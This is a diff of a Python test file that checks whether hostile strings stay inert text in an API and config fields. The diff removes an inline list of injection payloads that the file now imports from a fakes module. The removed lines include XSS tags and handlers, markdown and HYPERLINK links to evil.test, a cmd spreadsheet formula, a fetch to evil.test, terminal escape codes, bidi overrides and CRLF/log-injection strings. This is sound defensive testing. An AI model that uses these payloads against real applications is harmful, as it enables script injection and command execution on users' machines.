@@ -1,6 +1,5 @@
 """Hostile text stays text (promise G4): a thousand strings in the free fields of the API and of a `brewslm.yaml`."""
 
-import itertools
 import json
 from collections.abc import Mapping
 from pathlib import Path
@@ -12,55 +11,7 @@ from brewslm.api.guard import allowed_hosts
 from brewslm.bootstrap.container import open_house
 from brewslm.bootstrap.house import House
 from brewslm.cli.text import harmless, one_line
-
-SCRIPTS = (
-    "<script>{}</script>", "<img src=x onerror={}>", "<svg/onload={}>", '"><script>{}</script>', "javascript:{}",
-    "<iframe srcdoc='<script>{}</script>'>", "</title><script>{}</script>", "<a href=javascript:{}>x</a>", "{{{{{}}}}}",
-    "${{{}}}", "<style>@import '{}'</style>", "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
-    "<!--><script>{}</script>", "data:text/html,<script>{}</script>", "<body onload={}>", "<details open ontoggle={}>",
-)  # fmt: skip
-MARKDOWN = (
-    "![x](http://evil.test/{})",
-    "[x](javascript:{})",
-    "<http://evil.test/{}>",
-    "[x]: http://evil.test/{}",
-    "```html\n{}\n```",
-)
-FORMULAS = ("={}", "+{}", "-{}", "@{}", "\t={}", '=HYPERLINK("http://evil.test","{}")', "=cmd|' /C {}'!A0")
-ANSI = (
-    "\x1b[31m{}\x1b[0m",
-    "\x1b]8;;http://evil.test\x07{}\x1b]8;;\x07",
-    "\x1b[2J{}",
-    "\x9b31m{}",
-    "\x1b]0;{}\x07",
-    "\r{}",
-    "\x08{}",
-)
-BIDI = ("\u202e{}", "\u2066{}\u2069", "\u200f{}", "\ufeff{}", "\u061c{}")
-LINES = (
-    "x\n2026-01-01 ERROR root: {}",
-    "x\r\nHTTP/1.1 200 OK\r\n\r\n{}",
-    "x\u2028{}",
-    "x\x0b{}",
-    "x\x85{}",
-    "x\x00{}",
-    "\ud800{}",
-)
-WORDS = (
-    "alert(1)",
-    "fetch('//evil.test')",
-    "1+1",
-    "a" * 40,
-    "\u212a\u017f",
-    "%0d%0a",
-    "%3Cscript%3E",
-    "\\u003cscript\\u003e",
-    "'; --",
-    "../..",
-)
-STEERING = "\x1b\x9b\x07\x08\r\x0b\x85\x00\u202e\u2066\u200f\ufeff\u061c\u2028\ud800"
-KINDS = (*SCRIPTS, *MARKDOWN, *FORMULAS, *ANSI, *BIDI, *LINES)
-STRINGS = tuple(f"{kind.format(word)}{end}" for kind, word, end in itertools.product(KINDS, WORDS, ("", "\u202c", " ")))
+from tests.fakes.hostile import STEERING, STRINGS
 
 
 def test_there_are_a_thousand_of_them() -> None:
